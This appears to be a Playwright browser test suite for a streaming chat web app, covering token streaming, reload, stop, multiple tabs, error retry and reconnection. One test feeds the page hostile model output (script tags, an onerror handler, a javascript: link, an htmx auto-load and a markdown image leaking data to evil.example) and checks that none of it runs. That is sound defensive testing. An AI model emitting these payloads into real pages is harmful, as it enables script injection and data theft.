from playwright.sync_api import Page, expect

from chat.models import Message
from tests.browser.conftest import SCREENSHOTS


def send(page: Page, text: str) -> None:
    page.locator("#prompt").fill(text)
    page.locator("#prompt").press("Enter")


def test_log_in_send_and_watch_tokens_arrive_before_the_answer_completes(
    page: Page, app_server, user, fake_openrouter, settings
):
    settings.OPENROUTER_DEFAULT_MODEL = "fake/slow"
    fake_openrouter.slow_token_delay = 0.03
    fake_openrouter.slow_tokens = 60
    page.goto(f"{app_server.url}/")
    page.fill("#id_username", "alice")
    page.fill("#id_password", "pw-Secret-123")
    page.click("button[type=submit]")
    expect(page.locator("#empty-state")).to_be_visible()
    expect(page.locator("#connection")).to_have_attribute("data-state", "open")
    send(page, "Count for me")

    streaming = page.locator(".msg-assistant.status-streaming .msg-body")
    expect(streaming).to_contain_text("t5")
    expect(page.locator(".msg-assistant.status-streaming")).to_have_count(1)
    expect(page.locator(".stop")).to_be_visible()
    expect(page.locator(".msg-assistant.status-complete .msg-body")).to_contain_text("t59")
    expect(page.locator(".msg-user")).to_contain_text("Count for me")
    expect(page.locator(".msg-assistant .msg-meta")).to_contain_text("tokens")
    assert "/c/" in page.url, "the address names the new conversation"
    expect(page.locator("#conversation-list .conv-title").first).not_to_have_text("New chat")


def test_reload_mid_stream_shows_the_partial_answer_and_the_rest(
    page: Page, logged_in, fake_openrouter, settings
):
    settings.OPENROUTER_DEFAULT_MODEL = "fake/slow"
    fake_openrouter.slow_token_delay = 0.04
    fake_openrouter.slow_tokens = 80
    page.goto(f"{logged_in.url}/")
    expect(page.locator("#connection")).to_have_attribute("data-state", "open")
    send(page, "Keep counting")
    expect(page.locator(".msg-assistant .msg-body")).to_contain_text("t10")
    page.reload()
    body = page.locator(".msg-assistant .msg-body")
    expect(body).to_contain_text("t10")
    expect(page.locator(".msg-assistant.status-streaming")).to_have_count(1)
    expect(page.locator(".msg-assistant.status-complete .msg-body")).to_contain_text("t79")
    expect(page.locator(".msg-user")).to_have_count(1)
    expect(page.locator(".msg-assistant")).to_have_count(1)


def test_stop_cancels_and_shows_the_cancelled_state(
    page: Page, logged_in, fake_openrouter, settings
):
    settings.OPENROUTER_DEFAULT_MODEL = "fake/slow"
    fake_openrouter.slow_token_delay = 0.03
    page.goto(f"{logged_in.url}/")
    expect(page.locator("#connection")).to_have_attribute("data-state", "open")
    send(page, "Go on forever")
    expect(page.locator(".msg-assistant .msg-body")).to_contain_text("t3")
    page.locator(".stop").click()
    expect(page.locator(".msg-assistant.status-cancelled")).to_be_visible()
    expect(page.locator(".msg-assistant .msg-status")).to_contain_text("Stopped.")
    expect(page.locator(".stop")).to_be_hidden()
    assert fake_openrouter.wait_closed_streams(1)
    assert Message.objects.get(role="assistant").status == Message.Status.CANCELLED


def test_a_second_tab_sees_the_same_stream(
    page: Page, logged_in, context, fake_openrouter, settings
):
    settings.OPENROUTER_DEFAULT_MODEL = "fake/slow"
    fake_openrouter.slow_token_delay = 0.04
    fake_openrouter.slow_tokens = 70
    page.goto(f"{logged_in.url}/")
    expect(page.locator("#connection")).to_have_attribute("data-state", "open")
    send(page, "Shared stream")
    expect(page.locator(".msg-assistant .msg-body")).to_contain_text("t4")
    second = context.new_page()
    second.goto(page.url)
    expect(second.locator(".msg-assistant.status-streaming")).to_have_count(1)
    expect(second.locator(".msg-assistant.status-complete .msg-body")).to_contain_text("t69")
    expect(page.locator(".msg-assistant.status-complete .msg-body")).to_contain_text("t69")


def test_an_upstream_error_appears_in_the_message_with_retry(
    page: Page, logged_in, fake_openrouter, settings
):
    settings.OPENROUTER_DEFAULT_MODEL = "fake/500"
    page.goto(f"{logged_in.url}/")
    expect(page.locator("#connection")).to_have_attribute("data-state", "open")
    send(page, "This will fail")
    error = page.locator(".msg-assistant.status-error .msg-status")
    expect(error).to_contain_text("The model API answered 500")
    settings.OPENROUTER_DEFAULT_MODEL = "fake/ok"
    Message.objects.filter(role="assistant").update(model="fake/ok")
    page.evaluate("0")  # keep the page alive between steps
    from chat.models import Conversation

    Conversation.objects.update(model="fake/ok")
    page.locator(".retry-form button").click()
    expect(page.locator(".msg-assistant.status-complete .msg-body")).to_contain_text(
        "Echo: This will fail done."
    )
    expect(page.locator(".msg-assistant")).to_have_count(1)


def test_hostile_answer_runs_nothing_and_requests_nothing(
    page: Page, logged_in, fake_openrouter, settings
):
    fake_openrouter.reply_tokens = [
        "<script>window.pwned = 1</script>\n\n",
        '<img src="/nope.png" onerror="window.pwned = 2">\n\n',
        '<div hx-get="/api/chat/test-stream" hx-trigger="load">htmx</div>\n\n',
        "[link](javascript:window.pwned=3)\n\n",
        "![leak](https://evil.example/?q=secret)\n",
    ]
    outside = []
    page.on("request", lambda r: outside.append(r.url) if logged_in.url not in r.url else None)
    dialogs: list[str] = []

    def on_dialog(dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    requests_after = []
    page.goto(f"{logged_in.url}/")
    expect(page.locator("#connection")).to_have_attribute("data-state", "open")
    page.on("request", lambda r: requests_after.append(r.url))
    send(page, "be evil")
    expect(page.locator(".msg-assistant.status-complete")).to_be_visible()
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    assert outside == []
    assert not [u for u in requests_after if "test-stream" in u or "nope.png" in u]
    expect(page.locator(".msg-assistant .msg-body img")).to_have_count(0)


def test_screenshots_for_the_readme(page: Page, logged_in, fake_openrouter, settings):
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto(f"{logged_in.url}/")
    expect(page.locator("#connection")).to_have_attribute("data-state", "open")
    page.screenshot(path=SCREENSHOTS / "empty-state.png")

    settings.OPENROUTER_DEFAULT_MODEL = "fake/reasoning"
    fake_openrouter.reply_tokens = [
        "Here is a tiny **Python** function that adds two numbers:\n\n",
        "```python\ndef add(a: int, b: int) -> int:\n    return a + b\n```\n\n",
        "Call it as `add(2, 3)`, which returns `5`.",
    ]
    send(page, "Show me a Python function that adds two numbers")
    expect(page.locator(".msg-assistant.status-complete")).to_be_visible()
    page.locator(".reasoning summary").first.click()
    page.screenshot(path=SCREENSHOTS / "streamed-answer.png")

    page.set_viewport_size({"width": 390, "height": 780})
    page.reload()
    expect(page.locator(".msg-assistant.status-complete")).to_be_visible()
    page.screenshot(path=SCREENSHOTS / "phone.png")
    assert (SCREENSHOTS / "phone.png").stat().st_size > 5000


def test_socket_reconnects_after_a_network_drop_and_resyncs_without_duplicates(
    page: Page, logged_in, context, fake_openrouter, settings
):
    from tests.servers import TcpProxy

    proxy = TcpProxy(logged_in.port).start()
    try:
        context.add_cookies(
            [{"name": c["name"], "value": c["value"], "url": proxy.url} for c in context.cookies()]
        )
        settings.OPENROUTER_DEFAULT_MODEL = "fake/slow"
        fake_openrouter.slow_token_delay = 0.03
        fake_openrouter.slow_tokens = 90
        page.goto(f"{proxy.url}/")
        expect(page.locator("#connection")).to_have_attribute("data-state", "open")
        send(page, "Survive a drop")
        expect(page.locator(".msg-assistant .msg-body")).to_contain_text("t5")
        proxy.drop_all()
        expect(page.locator("#connection")).to_have_attribute("data-state", "closed")
        expect(page.locator("#connection")).to_have_attribute("data-state", "open", timeout=10_000)
        expect(page.locator(".msg-assistant.status-complete .msg-body")).to_contain_text("t89")
        expect(page.locator(".msg-user")).to_have_count(1)
        expect(page.locator(".msg-assistant")).to_have_count(1)
        expect(page.locator(".turn")).to_have_count(1)
    finally:
        proxy.stop()
